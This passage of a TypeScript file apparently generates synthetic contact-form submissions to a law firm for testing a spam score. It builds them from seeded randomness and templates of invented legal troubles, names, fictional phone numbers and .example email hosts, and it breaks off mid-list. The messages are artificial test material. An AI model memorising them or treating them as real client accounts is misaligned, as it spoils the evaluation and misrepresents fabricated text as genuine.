/**
 * The second half of the made-up submissions. Its author had not read the spam score, its tests or the first half when
 * writing it, so that the measured figures do not come from texts that were fitted to the rules.
 */
import { numbersFrom, type Kind, type MadeUp, type PageUse } from './submission';

type Fields = MadeUp['fields'];
type Headers = Record<string, string>;

const perKind = 250;
const day = 86_400;
const foyer = 'https://foyer.example';
const formPage = `${foyer}/forms/contact`;

/** Makes choices that are the same in every run. */
class Dice {
  readonly #next: () => number;

  constructor(seed: number) {
    this.#next = numbersFrom(seed);
  }

  /** @returns a whole number from the lowest to the highest, both included */
  between(lowest: number, highest: number): number {
    return lowest + Math.floor(this.#next() * (highest - lowest + 1));
  }

  chance(share: number): boolean {
    return this.#next() < share;
  }

  one<T>(list: readonly T[]): T {
    const at = this.between(0, list.length - 1);
    if (at in list) return list[at] as T;
    throw new Error('nothing to choose from');
  }

  /** @returns one of the values, chosen at random with the given weights */
  weighted<T>(list: readonly (readonly [number, T])[]): T {
    let left = this.#next() * list.reduce((sum, [weight]) => sum + weight, 0);
    for (const [weight, value] of list) {
      left -= weight;
      if (left < 0) return value;
    }
    return this.one(list)[1];
  }

  shuffled<T>(list: readonly T[]): T[] {
    const mixed = [...list];
    for (let at = mixed.length - 1; at > 0; at -= 1) {
      const other = this.between(0, at);
      [mixed[at], mixed[other]] = [mixed[other] as T, mixed[at] as T];
    }
    return mixed;
  }

  letters(count: number, alphabet = 'abcdefghijklmnopqrstuvwxyz'): string {
    return Array.from({ length: count }, () => this.one([...alphabet])).join('');
  }

  digits(count: number): string {
    return this.letters(count, '0123456789');
  }

  code(count: number): string {
    return this.letters(count, 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789');
  }
}

/**
 * Holds a list of values and returns them in random order. Repeats a value only after every value was returned.
 */
class Deck<T> {
  readonly #dice: Dice;
  readonly #cards: readonly T[];
  #left: T[] = [];

  constructor(dice: Dice, cards: readonly T[]) {
    this.#dice = dice;
    this.#cards = cards;
  }

  deal(): T {
    if (this.#left.length === 0) this.#left = this.#dice.shuffled(this.#cards);
    const card = this.#left.pop();
    if (card === undefined) throw new Error('an empty deck');
    return card;
  }
}

const firstNames = (
  'James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara Richard Susan Joseph Jessica Thomas Karen ' +
  'Charles Lisa Chris Nancy Daniel Sandra Matt Ashley Anthony Kim Mark Emily Donald Donna Steven Michelle Andrew Carol Paul Amanda ' +
  'Josh Melissa Ken Deborah Kevin Stephanie Brian Dorothy Tyrone Latoya DeShawn Keisha Darnell Imani Tamika Marcus Sean Brandi Dustin ' +
  'Kayla Cody Brittany Earl Gladys Walter Mildred Zoe Ethan Noah Ava Priya Wei Grace Min-jun Naomi Eli Rivka Thuy Kwame Ngozi'
).split(' ');
const lastNames = (
  'Smith Johnson Williams Brown Jones Miller Davis Wilson Anderson Taylor Thomas Moore Jackson Martin Lee Thompson White Harris Clark ' +
  'Lewis Robinson Walker Young Allen King Wright Scott Hill Green Adams Nelson Baker Hall Campbell Mitchell Carter Roberts Phillips ' +
  'Evans Turner Parker Collins Edwards Stewart Morris Murphy Cook Rogers Morgan Cooper Peterson Reed Bailey Kelly Howard Ward Cox ' +
  "Richardson Wood Watson Brooks Bennett Gray O'Brien McAllister Kowalczyk Schroeder Patel Nguyen Okafor Goldberg Van Dyke-Ross Cho Tran"
).split(' ');
const spanishFirst = (
  'María José Juan Guadalupe Luis Rosa Carlos Ana Miguel Carmen Jorge Yolanda Francisco Leticia Pedro Verónica Jesús Araceli Manuel ' +
  'Silvia Ricardo Norma Fernando Blanca Óscar Maribel Raúl Elvira Héctor Xiomara Wilmer Yesenia Darwin Katherine Elmer Dayana Nelson Lidia'
).split(' ');
const spanishLast = (
  'Hernández García Martínez López González Pérez Rodríguez Sánchez Ramírez Cruz Flores Gómez Morales Vázquez Reyes Jiménez Torres Díaz ' +
  'Gutiérrez Ruiz Mendoza Aguilar Ortiz Castillo Chávez Rivera Orellana Zelaya Quispe Ajanel Guardado Peña Ulloa Montoya Bonilla Lemus'
).split(' ');
const arabicFirst =
  'أحمد محمد فاطمة علي زينب يوسف مريم خالد نور حسن سارة عمر ليلى إبراهيم هدى مصطفى رانيا سامي أمل طارق'.split(' ');
const arabicLast =
  'الحداد حسين العلي الخطيب محمود النجار إسماعيل الشامي عبدالله المصري السيد الجبوري صالح الزهراني قاسم بركات'.split(
    ' ',
  );
const arabicLatin =
  'Ahmed Mohamad Fatima Ali Zainab Yousef Mariam Khaled Noor Hassan Sara Omar Layla Ibrahim Huda Mustafa Rania Sami Amal Tarek'.split(
    ' ',
  );
const arabicLatinLast =
  'Haddad Hussein Alali Khatib Mahmoud Najjar Ismail Alshami Abdallah Almasri Elsayed Aljubouri Saleh Alzahrani Kassem Barakat'.split(
    ' ',
  );

const cities = (
  'Fresno,Tucson,Dayton,Omaha,Akron,Macon,Laredo,El Paso,Yonkers,Newark,Peoria,Boise,Modesto,Toledo,Mobile,Reno,Dearborn,Lowell,Tacoma,' +
  'Aurora,Plano,Provo,Duluth,Erie,Flint,Hialeah,Stockton,Bakersfield,Lancaster,Fort Wayne,Chula Vista,St. Paul,Baton Rouge,Paterson'
).split(',');
const states =
  'Texas,Ohio,Florida,Nevada,Georgia,Arizona,Oregon,Michigan,Illinois,Virginia,Colorado,Tennessee,New Jersey,Kentucky'.split(
    ',',
  );
const streets =
  'Maple,Oak,Washington,Third,Cedar,Elm,Lakeview,Mill,Church,Jefferson,Pine Ridge,Sunset,Franklin,Old Post,Harbor'.split(
    ',',
  );
const months = 'January,February,March,April,May,June,July,August,September,October,November,December'.split(',');
const spanishMonths = 'enero,febrero,marzo,abril,mayo,junio,julio,agosto,septiembre,octubre,noviembre,diciembre'.split(
  ',',
);
const weekdays = 'Monday,Tuesday,Wednesday,Thursday,Friday,Saturday,Sunday'.split(',');
const companies = (
  'Brightway Logistics,Harlan Foods,Stonebridge Apartments,Cobalt Staffing,Meridian Freight,Pinnacle Roofing,Oakhurst Senior Living,' +
  'Tri-County Poultry,Vista Warehouse,Northgate Dental,Redline Towing,Sunrise Home Care,Apex Drywall,Lakeside Motors,Corner Deli,' +
  'Goldleaf Insurance,Evergreen Property Group,Quickserve Markets,Summit Steel,Bluebird Daycare,Royal Nails,Hometown Credit'
).split(',');
const mailHosts = (
  'gmail.example,gmail.example,gmail.example,yahoo.example,hotmail.example,outlook.example,icloud.example,aol.example,comcast.example,' +
  'proton.example,att.example,ymail.example,live.example,msn.example,mail.example'
).split(',');
const areaCodes = '212,305,313,408,469,512,559,602,614,702,713,775,816,914,915,973'.split(',');
const slugWords =
  'crash,downtown,fire,layoffs,plant,school,police,city,council,verdict,bridge,storm,apartment,nurse,driver,strike'.split(
    ',',
  );
const trades =
  'summit,bluewater,redoak,precision,heritage,cornerstone,lonestar,pioneer,anchor,keystone,maplewood,granite'.split(
    ',',
  );

/** Writes American phone numbers that are reserved for fiction, in the formats that people type. */
function phone(dice: Dice): string {
  const area = dice.one(areaCodes);
  const line = `01${dice.digits(2)}`;
  return dice.one([
    `(${area}) 555-${line}`,
    `${area}-555-${line}`,
    `${area}555${line}`,
    `${area}.555.${line}`,
    `+1 ${area} 555 ${line}`,
    `1${area}555${line}`,
    `${area} 555 ${line}`,
  ]);
}

function money(dice: Dice): string {
  return dice.one([
    `$${dice.between(2, 98)}00`,
    `$${dice.between(1, 79)},${dice.digits(3)}`,
    `${dice.between(2, 90)}k`,
    `${dice.between(3, 95)},000 dollars`,
    `$${dice.between(100, 999)}.${dice.digits(2)}`,
  ]);
}

const ordinals: Record<number, string> = { 1: 'st', 2: 'nd', 3: 'rd', 21: 'st', 22: 'nd', 23: 'rd' };

function date(dice: Dice): string {
  const month = dice.between(1, 12);
  const ofMonth = dice.between(1, 28);
  return dice.one([
    `${months[month - 1] ?? ''} ${ofMonth}`,
    `${month}/${ofMonth}`,
    `${month}/${ofMonth}/2${dice.between(4, 5)}`,
    `the ${ofMonth}${ordinals[ofMonth] ?? 'th'}`,
  ]);
}

/**
 * Writes a text from a template: `{one|other}` is one of its parts, and `<city>` and the like are made up, or the writer's own.
 * @returns the text
 */
function write(dice: Dice, template: string, own: Record<string, string> = {}): string {
  const slots: Record<string, () => string> = {
    city: () => dice.one(cities),
    state: () => dice.one(states),
    street: () => dice.one(streets),
    house: () => String(dice.between(11, 9899)),
    zip: () => dice.digits(5),
    month: () => dice.one(months),
    mes: () => dice.one(spanishMonths),
    weekday: () => dice.one(weekdays),
    date: () => date(dice),
    year: () => String(dice.between(2009, 2025)),
    n: () => String(dice.between(2, 9)),
    m: () => String(dice.between(11, 60)),
    age: () => String(dice.between(3, 17)),
    elder: () => String(dice.between(61, 93)),
    money: () => money(dice),
    name: () => dice.one(firstNames),
    surname: () => dice.one(lastNames),
    nombre: () => dice.one(spanishFirst),
    company: () => dice.one(companies),
    phone: () => phone(dice),
    case: () =>
      `${dice.one(['24', '25', '2025', '2024'])}-${dice.one(['CV', 'FA', 'DR', 'CR', 'PR'])}-${dice.digits(dice.between(4, 6))}`,
    code: () => dice.code(dice.between(8, 22)),
    digits: () => dice.digits(dice.between(6, 12)),
    slug: () => `${dice.one(slugWords)}-${dice.one(slugWords)}-${dice.digits(4)}`,
    trade: () => dice.one(trades),
    mail: () => `${dice.one(firstNames).toLowerCase()}${dice.digits(2)}@${dice.one(mailHosts)}`,
    time: () => `${dice.between(1, 7)}${dice.one([':30', ':15', '', ''])}${dice.one(['pm', ' PM', '', ' p.m.'])}`,
  };
  let text = template;
  let before = '';
  while (text !== before) {
    before = text;
    text = text.replace(/\{([^{}]*)\}/g, (_, parts: string) => dice.one(parts.split('|')));
  }
  return text.replace(/<([a-z]+)>/g, (whole, slot: string) => own[slot] ?? slots[slot]?.() ?? whole);
}

// The subjects of people's messages. Each list holds one area of law; each line is one person's trouble.
const areas: Record<string, { troubles: string[]; details: string[] }> = {
  family: {
    troubles: [
      'Stepdad adoption question. My husband raised him since diapers, bio dad signs anything if you pay him.',
      'Been paying alimony {nine|twelve} years. She lives with a guy who drives a Tesla. When does this end?',
      "Hubby says if I leave I get nothing, house is in his dad's name. True?",
      'Our surrogate lives in <state>, due in <month>, and the clinic asks for a pre-birth order.',
      'Two moms here. Only one of us is on the birth certificate and the other wants to be safe.',
      'I need to serve somebody who lives out of a van around <city>.',
      'The parenting app shows he read all <m> of my messages and answered zero of them. Swap day is a nightmare.',
      "My {husband|wife} moved out in <month> and now won't {let me see|bring back} our {son|daughter|kids}.",
      'I was served with divorce papers {on <weekday>|at work this morning|yesterday} and the summons says I have <m> days to answer.',
      "We've been separated since <year> and own a house in <city> together, no kids. I think we agree on almost everything.",
      'My ex is <n> months behind on child support{ and he just bought a boat| while posting vacation pictures|, about <money> in all}.',
      'I need to change a custody order from <year>. My {daughter|son} is <age> now and wants to live with me.',
      "I'm a grandmother raising {two|three} little ones since their mom went to rehab. The school wants legal papers from me.",
      'He keeps showing up at my work even after I told him to stop. I have the texts, the voicemails, everything.',
      'My wife took the children to her parents in <state> without telling me and put them in school there.',
      'I want to adopt my stepson <name>. His {dad|biological father} has not called since <year>.',
      'My fiancé asked for a prenup and his lawyer sent over a draft of <m> pages. The wedding is <date>.',
      "There's a paternity hearing on <date> and I honestly don't know if the baby is mine.",
      'The mother of my <age> year old is moving to <state> for a job and I found out from my kid.',
      'Judge <surname> ordered mediation but I cannot sit in a room with {him|her} again.',
      'My name is still on the mortgage of the house my ex got in the divorce and they stopped paying in <month>.',
      'The decree says I get half the pension but nobody ever sent the order to the plan. That was <year>.',
      'CPS came to our house on <weekday> because of a bruise from soccer practice. They want me to sign a safety plan.',
      'my bf and i were never married, we have a <age> yr old, do i need to file something to have custody or do i have it',
      'I am a man and I am the one being hit. I need a protective order and I feel stupid asking.',
    ],
    details: [
      'We were married {for <m> years|in <year>|in Las Vegas}. No prenup.',
      'There is a hearing on <date>, case <case>.',
      'The kids are <n> and <age>. They are in therapy since the spring.',
      'I make about <money> a {month|year}; {he|she} will not say what {he|she} makes.',
      'My mother-in-law is the one pushing all this.',
      "I've tried to talk. Last time {he|she} hung up and blocked me.",
      'We have a house, two cars, a 401k and a dog we both want. The dog matters.',
      '{He|She} already has a lawyer, some guy named <surname> in <city>.',
      'I have not filed anything yet because I was hoping we would fix it.',
    ],
  },
  injury: {
    troubles: [
      'Amazon box fell off a dolly from the truck ramp onto my foot, toe amputated.',
      "Boat accident at the lake over the holiday weekend, propeller, my nephew's leg.",
      'Gym machine cable snapped in my face. They made me sign a waiver when I joined in <year>.',
      "Carbon monoxide from the water heater, whole family in the ER, landlord's handyman put it in.",
      `I drive for a delivery app. Got doored on my bicycle on <street>. App says I wasn't "active".`,
      'Birth injury, shoulder dystocia, our baby is {7|9|11} months and her arm hangs.',
      "Teacher closed the door on my <age> year old's fingertip. School nurse gave an ice pack.",
      'Hit by a golf cart in a retirement community of all things. Pelvis in two places.',
      'I was rear-ended on <street> {Ave|Street|Blvd} on <date>. The other driver {had no insurance|took off|says it was my fault}.',
      'Fell on a wet floor at {the grocery store on <street>|<company>} and broke my {wrist|hip|ankle}. No cone, no sign, nothing.',
      'A dog at <house> <street> St bit my <age> year old {on the face|in the leg}. <m> stitches.',
      'My mother (<elder>) got bed sores at <company> and nobody there told us until she was in the ER.',
      'A <company> truck side-swiped me on the interstate and my car is totaled. The adjuster offered <money> and wants a release signed by <weekday>.',
      'I had surgery in <month> and they left {a sponge|part of a drain} inside. Second surgery is next week.',
      'Uber driver ran a red light with me in the back seat. Which insurance pays for this?',
      'my brother was killed on his motorcycle <date> by a drunk driver, the family asked me to find someone',
      'I hurt my back lifting at work and the comp doctor says I am fine but I cannot put on my own socks.',
      'The scaffold went down with two of us on it at the <street> site. I have a plate in my {arm|leg} now.',
      'Pedestrian hit in a crosswalk, that was me, three weeks ago. Concussion and I lose words mid sente... sentence.',
      'The hair relaxer I used for <m> years, I now have the cancer they talk about on TV.',
      'Exploding e-bike battery burned down our garage and my hands.',
      'The hospital discharged my dad with chest pain and he passed {that night|<n> hours later}. He was <elder>.',
      'Got food poisoning at a wedding, <m> guests were sick, I was in the hospital for <n> days.',
      'My landlord never fixed the stairs, I told him four times in writing, now my knee is done.',
      'Bus door closed on my arm and the driver drove on for half a block. There must be video.',
    ],
    details: [
      'I have pictures of everything and the police report number is <digits>.',
      "I've been out of work for <n> weeks.",
      'My bills are at <money> and still coming.',
      'MRI says herniated disc at L4/L5.',
      "Their insurance keeps calling me and I don't pick up anymore.",
      'Two people saw it and gave me their numbers.',
      'I went to urgent care the next day, then to my own doctor, then PT twice a week.',
      'I did not call the police because he begged me not to. I know.',
      'Claim number is <digits>, adjuster is Ms. <surname>.',
    ],
  },
  immigration: {
    troubles: [
      'Need help with N-400, two trips over 180 days each, during covid.',
      'Fiancee in Manila, met online in <year>, visited <n> times, want K-1.',
      'Is a U visa still possible when the police report misspelled my name and the detective moved away?',
      'Our pastor is from Kenya on R-1 and it runs out {in <month>|soon}. The church would like to keep him.',
      'Border took my phone, cancelled my ESTA, sent me home to Spain. My girlfriend is pregnant in <city>.',
      "Lost my naturalization certificate in the flood. N-565 pending <m> months and I can't get a passport.",
      'Son is <age>, special immigrant juvenile, the state court part still has to be done before he turns 18.',
      'My green card expires in <month> and I have an old DUI from <year>. Can I still renew it?',
      "I'm a citizen and my husband came in on a visa that ran out in <year>. We want to file the right papers.",
      'ICE picked up my {cousin|father|coworker} on <weekday> morning in <city>. We do not know where he is being held.',
      'I got an RFE on my I-485 and the answer is due <date>. My old lawyer retired and will not pick up.',
      'H-1B here, laid off on <date>, my 60 days are running.',
      'My asylum interview is scheduled for <date> and I have nobody to go with me.',
      'My daughter turns 21 in <month> and our petition is still pending. People tell me she ages out.',
      'I have DACA since <year> and need advance parole to see my grandmother who is dying.',
      'I was ordered removed in absentia in <year>, I never got the letter because we moved.',
      'I applied for citizenship and failed the English part twice. I am <elder>, is there an exception?',
      'My employer is holding my passport and says I owe him <money> for the visa.',
      'The notario filed an asylum case for me without telling me what it was. He took <money>.',
      'I am a nurse from Manila with an offer from a hospital in <city> and they want to know how long the visa takes.',
      'We run a small restaurant and got a notice of inspection for our I-9 forms. We have three business days.',
      'My wife is at the consulate for the <n>th time, administrative processing for {fourteen|nine|twenty} months.',
      "Removal of conditions I-751, but we're divorcing. What now?",
    ],
    details: [
      'I have been here since <year> and pay taxes every year.',
      'My A-number I can give on the phone, not here.',
      'We have two kids born in <city>.',
      'No arrests, just a ticket for no license in <year>.',
      'The next court date is <date>, master calendar.',
      'I can bring all the papers, I keep everything in one folder.',
      'I speak English okay but my husband needs an interpreter.',
      'Somebody at church gave us your name.',
    ],
  },
  criminal: {
    troubles: [
      'Ring camera shows the cops walking into my garage with no warrant.',
      'Got accused of hit and run, honestly thought I hit a trash can.',
      'College kid, fake ID, bar in <city>, first offense, scholarship on the line.',
      'my cousin got picked up on a gun charge, it was in his girlfriends glovebox',
      'How do I send money for a phone call and who do I talk to about bond?',
      'A process server or maybe a cop left a card on my door with a subpoena for a grand jury.',
      'Need somebody for a suspended license, {five|six|eight} open tickets in three counties.',
      'Federal presentence interview on <date>, my lawyer quit, I have nobody.',
      'My son was arrested last night in <city>, they say {possession with intent|assault|burglary}. Arraignment is {tomorrow at 9|<weekday>}.',
      'First DUI. Blew a 0.{11|09|16}. Court is <date>.',
      'I have a warrant from <year> for an unpaid fine in <state> and I want to clear it before I apply for jobs.',
      'Detective <surname> left me a voicemail asking me to come in "just to talk". Should I?',
      'Want to expunge a misdemeanor from when I was 19. I am {34|41|52} now and it cost me another job.',
      'They charged me with shoplifting at <company> and I swear I forgot the thing under the stroller.',
      'My public defender has met me one time for four minutes and wants me to take a plea.',
      'I got a speeding ticket {97 in a 65|31 over} with a CDL. I cannot have points.',
      'probation violation bc i missed 2 appts when my mom was in the hospital',
      'Police took {my truck|<money> in cash} in a traffic stop and never charged me. How do I get it back?',
      'My daughter is being blamed for vaping stuff found in a locker that three girls share, the school called the police',
      'I got a target letter from the U.S. Attorney about PPP loans. I run a car wash.',
      'My husband is in county and they will not give him his heart medication.',
      'I threw a drink at a bar and now it is "assault". The video shows she swung first.',
      'I need to get off the registry, it has been <m> years and the statute changed.',
    ],
    details: [
      'Bail is set at <money>.',
      'Case number <case>, Judge <surname>.',
      'No record at all before this.',
      "They didn't read any rights, if that matters.",
      'I did not say anything to them except my name.',
      'I work nights so I can talk between 9 and noon.',
      'I know I messed up and I want to do this right.',
      'We can come up with <money> this week and the rest in payments.',
    ],
  },
  employment: {
    troubles: [
      'Breastfeeding at work, they gave me a supply closet with a camera in it.',
      'Boss took my last three commissions, one alone was <money>.',
      'Put on a PIP the week after I asked why the men at my level make more.',
      'Janitor, night shift, {11|12|13} years, replaced through an agency, told to train the new guy.',
      'Restaurant closed with a paper on the door, final checks bounced.',
      'Offer letter rescinded after I already quit the old place and moved from <city>.',
      'School district non-renewed my contract after I testified for a colleague.',
      'Foreman uses the n word on the radio, I recorded it, two of us walked off.',
      'Can they fire you for a positive test when you have a card?',
      'I was fired {two days|a week|a month} after I told HR I am pregnant. They say "restructuring".',
      "My boss at <company> hasn't paid overtime since <month>. We are <n> people in the same boat.",
      'I reported unsafe ladders to OSHA and my hours went from 40 to 12.',
      'My manager keeps making comments about my accent in front of customers. HR did nothing.',
      'I got a severance agreement to sign by <date>, <money>, and it has a non-compete for two years.',
      'I am <elder> and the only one over 50 they let go. My job got posted again the next week with "digital native" in it.',
      'The tip pool goes to the owner and his cousin. I have pictures of the sheets.',
      'They classify us as 1099 but tell us when to come, what to wear and what to say.',
      'My FMLA was denied because someone wrote down the wrong hire date and now I am "absent".',
      'A supervisor put his hand on my back for the {third|fifth} time and I pushed it away, I was written up.',
      'I left <company> in <month> and they still owe me the last paycheck and <m> vacation days.',
      'EEOC gave me a right to sue letter dated <date>, so the 90 days are running.',
      'I am a traveling nurse, contract cancelled after I moved to <city> and signed a lease.',
      'They asked me to bill Medicare for visits that never took place. I have the spreadsheets. I am scared.',
      'After my seizure they took my forklift license inside the plant and then they took my job.',
    ],
    details: [
      'I worked there <n> years with good reviews.',
      'I have emails and a recording (is that allowed in <state>?).',
      'I make <money> including the bonus that never came.',
      'There are others who would talk if someone asked them the right way.',
      'I filed for unemployment and they are fighting it too.',
      'HR person is <name> <surname>, she quit right after.',
      'I signed an arbitration thing on day one I guess, everybody did.',
      'Not looking to get rich, I want it on paper that this was wrong.',
    ],
  },
  estates: {
    troubles: [
      "Dad's girlfriend of <n> months is on all the accounts as POD. He had a stroke in <month>.",
      "How do I get guardianship of my sister, she's 44 with Down syndrome, our mom just died.",
      'The will leaves "my guns to Bobby". There are two Bobbys.',
      'Need to redo our trust, we moved here from California.',
      "Medicaid wants the house back after grandma's nursing home. Can they do that?",
      'Got a call from an heir search company that wants a third of whatever it is.',
      'Want an advance directive before surgery on <date>.',
      "My ex is still the beneficiary on my late brother's life insurance, the divorce was in <year>.",
      'Looking for somebody to be a neutral trustee, the twins fight about everything.',
      'My father passed away on <date> and {my sister|his new wife|a neighbor} has the will and will not show it to us.',
      'We need a simple will and powers of attorney. Married, two kids, one house, nothing fancy.',
      'My aunt died without a will, she had a house on <street> and <n> cats. I am the closest relative I think.',
      'I am executor for my uncle and the bank wants "letters". What letters?',
      'Mom is <elder>, has dementia, and my brother got her to sign over the house in <month>.',
      'We have a special needs son and want a trust that does not ruin his benefits.',
      'I was named trustee and I live in another country. Can I say no?',
      'There is a timeshare in the estate nobody wants. How do we NOT inherit it?',
      'My husband and I each have kids from before, I want to be fair to all <n> of them.',
      'Probate in <city> has been open since <year> and the lawyer does not return calls.',
      'Need a deed transferred from my late wife to me. The county says affidavit, the title company says probate.',
      'I would like to leave part of my house to my church and the rest to my niece. I am <elder> and clear in my head.',
      'My stepmother sold his truck and tools before we even buried him.',
      'I think I am a beneficiary of a trust from my grandfather but all I have is a letter from <year>.',
    ],
    details: [
      'The house is worth maybe <money>, there is a small mortgage.',
      'There are {three|four|five} of us and two do not speak.',
      'The original will may be in a safe deposit box at the bank on <street>.',
      'He was a veteran if that matters.',
      'I have the death certificates, ten copies.',
      'I cannot drive at night anymore so a morning appointment please.',
      'Everything was handled by a Mr. <surname>, who has died too.',
    ],
  },
  business: {
    troubles: [
      'Food manufacturer, recall of <m> pallets, the retailer is charging us back everything.',
      'Buying a laundromat, asset purchase, closing {in three weeks|<date>}, seller got cagey about the leases.',
      'Bookkeeper wrote herself checks for {two|three} years.',
      "Franchise says I'm in default over a paint color.",
      'Need terms and a privacy policy for an app that measures horses.',
      'Sub walked off a job, general is holding our retainage, lien deadline is near.',
      'Nonprofit board fight, half of us were voted out by text message.',
      'Trademark squatter in China has our brand, container stuck in customs.',
      'Partner wants a buyout at a price from a napkin, we both signed the napkin.',
      'I own a {landscaping|tile|trucking|cleaning} company and a customer owes us <money> on a signed contract.',
      'My partner emptied the business account on <weekday> and changed the passwords.',
      'We are two dentists who want to buy out a third. Need someone who can read an operating agreement.',
      'Got a cease and desist because our food truck is called almost like a restaurant in <state>.',
      'Our landlord doubled the CAM charges, commercial lease, <n> years left.',
      'We signed a merchant cash advance and they take <money> a day from the account. It is killing us.',
      "I'm opening a daycare and need an LLC, a lease looked at and whatever the state wants.",
      'A former employee took our customer list to a competitor. We have a non-solicit in place.',
      'The city will not renew our liquor license because of one noise complaint.',
      'We got sued in small claims by a tenant who also happens to be my cousin.',
      'Supplier in <city> shipped the wrong steel and will neither take it back nor answer the phone.',
      'Someone registered our name with a dash as a domain and sends our customers invoices.',
      'I want to sell my half of a barber shop to my half brother before it ruins Thanksgiving.',
      'A website threatens me with a lawsuit because my store site cannot be used with a screen reader. Is this a scam or real?',
    ],
    details: [
      'We have <m> employees.',
      'Revenue is around <money> a month.',
      'The contract says disputes go to arbitration in <city>.',
      'I can send the signed copy.',
      'We have tried to settle this twice.',
      'Our accountant suggested we talk to you.',
      'Deadline to answer the complaint is <date>.',
    ],
  },
  // Messages of honest clients that contain words that are frequent in spam.
  misleading: {
    troubles: [
      'Chip runner at the Golden Mesa casino, fell down the service stairs carrying two racks. HR says no comp because I was on break.',
      'I buy expired domains and build links for a living; one registrar locked {40|90|120} of mine over a complaint I never saw.',
      'Affiliate program for a sportsbook owes our little company <money> since <month>.',
      'Ordered Ozempic from a web pharmacy and ended up in the hospital, it was insulin.',
      'Coinbase-like exchange froze my account with <money> in ETH, divorce judge wants it divided by <date>.',
      'My identity was used to take out online loans, {four|six} of them, and now collectors text me all day.',
      'I was a webcam model and the site keeps selling my videos after I quit and sent three notices.',
      'Marketing company promised us leads, page one on Google and 5 star reviews. We paid <money>, got nothing, want out of the contract.',
      'I run an SEO agency (<n> people). A client stopped paying after <n> months of backlinks and content work and now threatens us over rankings.',
      'I am a blackjack dealer at a casino in Reno. They pool our tips with floor managers and I think that is not legal.',
      'I sent <money> in bitcoin to a trading platform I met a guy on Telegram for. The site is gone. I know how that sounds.',
      'I own an independent pharmacy and the benefit manager is auditing us for a hundred scripts, mostly Viagra generics and insulin.',
      'A payday loan company keeps debiting me after I paid off the loan. 480% APR, who allows this?',
      'I met a woman on a dating site who turned out to be married and her husband is now suing me. Alienation of affection is a thing here?',
      'We are a web design studio. A law office copied our whole site, template, photos and all, and ranks above us on Google.',
      'My crypto wallet was split in the divorce decree but he moved the coins before the date. Who do I even hire for this?',
      'I slipped at the slot machines at the Silver Heron casino, their video shows it, they gave me a free buffet coupon.',
      'Someone sends fake invoices in the name of my company. Customers paid <money> to a bank account that is not ours.',
      'I sold guest posts on my cooking blog and the ad network froze <money> of my earnings without a reason.',
      'I do marketing for a weight loss clinic, and they want me to post reviews that are not real. I refused and got fired.',
      'I won <money> at an online poker site and they will not pay out "pending verification" since <month>.',
      'My mother gave a man on WhatsApp <money> in gift cards, he said he was from her bank. Can any of it come back?',
      'I am an escort and was robbed by a client. Will you treat me like a person?',
      'A debt relief company promised to cut my loans by 50%, took its fee and vanished.',
    ],
    details: [
      'I kept screenshots of all of it.',
      'The amount is <money>, small for you maybe, not for me.',
      'I reported it to the {bank|police|state} and got a form letter.',
      'They are registered in {Delaware|Malta|Cyprus|Nevada}, or claim so.',
      'I am embarrassed and would like this to stay private.',
      'The contract is only emails and chat messages.',
    ],
  },
  other: {
    troubles: [
      'Bought tickets for a cruise that got cancelled, they only give vouchers.',
      'The county put a sewer line through our pasture and left.',
      'Can a landlord charge a pet fee for a service dog?',
      'I run the food pantry on <street>, we want to ask if one of your attorneys would do a Saturday clinic.',
      'Title of my trailer is in the name of a dead man, bought it in <year> for cash.',
      'Vet gave my cat the wrong injection.',
      "Repo took my van with my kid's wheelchair inside.",
      'Student loan servicer lost {70|84|96} payments in a transfer.',
      'The notary stamp on page 4 of what you mailed is missing, court clerk will not take it.',
      'Sorry wrong form, I meant the dentist next door! Please ignore.',
      'My landlord at <house> <street> taped a 3-day notice to my door. I paid. I have the money order stub.',
      'Black mold in the bathroom since <month>, my son has asthma and they painted over it.',
      'I am already a client ({<name> is handling my case|case <case>}) and I have not heard anything since <date>.',
      'This is <name> from Dr. <surname>’s office, we need a new records release, the one you sent is expired.',
      'I bought a used {Altima|F-150|Odyssey} from <company>, the engine died after <n> days. "As is" they say.',
      'I am a second-year law student and wanted to ask whether you take summer clerks.',
      'Reporter with the Valley Courier here. Would one of your lawyers comment on the new eviction rule? Deadline is <time> today.',
      'A contractor took <money> down for our kitchen, demolished it and disappeared.',
      'My HOA fines me for a ramp that I need for my wheelchair.',
      "Creditors garnished my wages for a debt that is my brother's, same initials. I want to know about bankruptcy too.",
      "The airline lost my late husband's ashes. I do not even know what kind of lawyer that is.",
      'Social Security says I was overpaid <money> and will stop my check in <month>.',
      'I was denied disability for the second time. 60 days to appeal I believe.',
      'Neighbor cut down our oak. It was <elder> years old. Surveyor says it stood on our side.',
      'You sent me a bill for <money> that I already paid in <month>, please check.',
      "The school will not follow my son's IEP and suspended him for the <n>th time.",
    ],
    details: [
      'I am a veteran, retired, on a fixed income.',
      'I have called <n> lawyers and no one does this kind of thing.',
      'I kept every receipt.',
      'They stopped answering after I mentioned a lawyer.',
      'It is the principle for me.',
      'My address is <house> <street> {St|Ave|Rd}, {Apt <n>, |}<city> <zip>.',
      'There is a deadline on <date>.',
    ],
  },
};

const openings = [
  'Hi,',
  'Hello.',
  'Good morning,',
  'Good afternoon',
  'To whom it may concern:',
  'Hi there!',
  'Dear attorney,',
  'Hello, my name is <me>.',
  'Hey',
  '<me> here.',
  'This is <me> <family>.',
  'Dear Sir or Madam,',
  'Greetings,',
  'Hi I found you {on Google|through my cousin|on the bar website|in the phone book}.',
  '',
  '',
  '',
  '',
  '',
  '',
  '',
  'I hope you can help me.',
  'Not sure if you handle this.',
  'I was referred by {a friend|<name> <surname>|my doctor|my union|the court clerk}.',
  'Sorry if this is the wrong place.',
  'OK so.',
  'Urgent please read',
  'Question for you.',
  'Writing on behalf of my {mother|son|neighbor|boss}.',
];
const asks = [
  'Do I have a case?',
  'What would it cost me?',
  'Please call me at <number>{ after <time>|}.',
  'Is the first consultation free?',
  'Can someone call me back {today|this week|before <weekday>}?',
  'I want to know my options.',
  'Do you take cases like this?',
  'When could I come in?',
  'How long do I have to file?',
  'Do you do payment plans?',
  'I need a lawyer who will pick up the phone.',
  'Email is better than phone for me.',
  'Please do NOT leave a voicemail, {he|she} checks my phone.',
  'Would appreciate any help or a referral.',
  'Can we do this by video?',
  'Is it too late?',
  'What should I bring?',
  'Is this something you work on contingency?',
  'I can come by {<weekday>|any morning|on my lunch break}.',
  'Should I sign or not?',
  'Do you have somebody who speaks {Spanish|Arabic|Mandarin|Tagalog}?',
  'Please advise.',
  'What happens next?',
  'Need representation asap.',
  "You can reach me at <number> or at my sister's, <phone>.",
